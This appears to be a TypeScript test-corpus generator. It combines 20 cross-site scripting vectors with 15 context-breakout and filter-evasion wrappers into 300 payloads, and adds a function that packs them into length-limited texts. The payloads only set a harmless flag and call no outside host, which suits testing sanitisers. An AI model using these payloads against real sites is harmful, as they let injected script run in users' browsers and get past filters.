/** Ways to have a browser run something where text was meant. Each would say so in `window.ran`. */
const does = 'window.ran=1';
const vectors = [
  `<script>${does}</script>`, `<img src=x onerror=${does}>`, `<svg onload=${does}>`, `<svg><script>${does}</script></svg>`, `<iframe srcdoc="<script>parent.ran=1</script>">`,
  `<body onload=${does}>`, `<details open ontoggle=${does}>x`, `<video><source onerror=${does}></video>`, `<input autofocus onfocus=${does}>`, `<a href="javascript:${does}">x</a>`,
  `[x](javascript:${does})`, `![x](x:" onerror="${does})`, `<math><mtext><img src onerror=${does}></math>`, `<object data="javascript:${does}">`, `<embed src="data:text/html,<script>${does}</script>">`,
  `<form action="javascript:${does}"><button>x</button></form>`, `<style onload=${does}>@import "data:text/css,*{}"</style>`, `<meta http-equiv=refresh content="0;url=javascript:${does}">`, `{{constructor.constructor('${does}')()}}`, `\${${does}}`,
] as const;
const spelt = (text: string, as: Readonly<Record<string, string>>): string => text.replace(/[<:{]/g, (sign) => as[sign] ?? sign);
/** Places that a text may find itself in, and spellings that a filter may overlook. */
const wrappers: readonly ((vector: string) => string)[] = [
  (it) => it, (it) => `"'>${it}`, (it) => `</textarea>${it}`, (it) => `</title>${it}`, (it) => `-->${it}`,
  (it) => `]]>${it}`, (it) => it.replace(/<(\w)/g, (_, letter: string) => `<${letter.toUpperCase()}`).replace('javascript', 'JaVaScRiPt').replace('onerror', 'OnError').replaceAll('{', '{ '), (it) => spelt(it, { '<': '&lt;', ':': '&colon;', '{': '&#123;' }), (it) => spelt(it, { '<': '%3C', ':': '%3A', '{': '%7B' }), (it) => it.replace('javascript:', 'java\tscript:').replaceAll('=', ' = '),
  (it) => `**${it}**`, (it) => `> ${it}`, (it) => `\`${it}\``, (it) => spelt(it, { '<': '\\u003c', ':': '\\u003a', '{': '\\u007b' }), (it) => `${it}\u202e`,
];

/** Three hundred of them, all different. */
export const payloads: readonly string[] = vectors.flatMap((vector) => wrappers.map((wrap) => wrap(vector)));

/** All of them in texts of at most so many characters; those that are longer stand in no text so short. */
export function packed(most: number, forbidden = /(?!)/): string[] {
  const texts: string[] = [];
  for (const it of payloads.filter((one) => one.length <= most && !forbidden.test(one))) {
    const last = texts.at(-1);
    if (last !== undefined && last.length + it.length + 1 <= most) texts[texts.length - 1] = `${last} ${it}`;
    else texts.push(it);
  }
  return texts;
}
